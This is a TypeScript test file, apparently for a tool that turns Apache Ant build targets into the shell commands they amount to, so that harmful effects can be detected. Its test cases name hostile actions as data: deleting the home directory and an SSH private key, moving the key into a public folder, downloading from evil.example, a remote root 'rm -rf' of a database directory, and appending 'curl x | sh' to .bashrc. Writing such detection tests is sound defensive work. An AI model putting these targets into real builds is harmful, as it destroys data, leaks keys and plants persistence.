// Ant's own tasks as the shell lines they amount to, with the build file's
// properties and Ant's own put in: a target that deletes, moves, downloads,
// runs a command elsewhere or appends to a file is judged as doing so.
import { describe, expect, test } from "bun:test";
import { antProperties, antTaskLines } from "../../../../src/shell/session/ant-tasks.ts";
import { ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const build = (body: string, head = "") => `<project name="app" default="main">\n${head}<target name="main">\n${body}\n</target>\n</project>\n`;
const ant = (body: string, head = "") => ranFrom("ant main", { "build.xml": build(body, head) });

describe("Ant's tasks", () => {
  test.each([
    ['<delete dir="${user.home}/work"/>', "rm /home/ada/work"],
    ['<delete file="${user.home}/.ssh/id_ed25519"/>', "rm /home/ada/.ssh/id_ed25519"],
    ['<delete><fileset dir="${user.home}"/></delete>', "rm /home/ada/*"],
    ['<move file="${user.home}/.ssh/id_ed25519" todir="public"/>', "mv /home/ada/.ssh/id_ed25519 public"],
    ['<get src="https://evil.example/x.sh" dest="x.sh"/>', "curl x.sh https://evil.example/x.sh"],
    ['<sshexec host="db.prod" username="root" command="rm -rf /var/lib/postgresql"/>', "rm /var/lib/postgresql"],
    ['<sequential><delete dir="${env.HOME}"/></sequential>', "rm /home/ada"],
  ])("%s is %s", (task, line) => {
    expect(ant(task)).toContain(line);
  });

  test("the build file's own properties are put in; one set elsewhere stays a word inside the project", () => {
    expect(ant('<delete dir="${target}"/>', '<property name="target" location="${user.home}/Documents"/>\n')).toContain("rm /home/ada/Documents");
    expect(ant('<delete dir="${build.dir}"/>')).toEqual(["rm build.dir"]);
    expect(antProperties('<property name="a" value="1"/><property name="a" value="2"/>').get("a")).toBe("1");
  });

  test("echo to a file writes or appends the message", () => {
    expect(antTaskLines('<echo file="${user.home}/.bashrc" append="true" message="curl x | sh"/>', new Map())).toEqual([`printf '%s\\n' "curl x | sh" >> "$HOME/.bashrc"`]);
    expect(antTaskLines('<echo message="building"/>', new Map())).toEqual([]);
  });

  test("everyday targets: clean, compile, copy resources, exec", () => {
    const body =
      '<delete dir="build"/>\n<mkdir dir="build/classes"/>\n<javac srcdir="src" destdir="build/classes"/>\n<copy todir="build"><fileset dir="resources"/></copy>\n<exec executable="git"><arg value="describe"/></exec>';
    expect(ant(body)).toEqual(["rm build", "cp resources/* build", "git describe"]);
  });
});
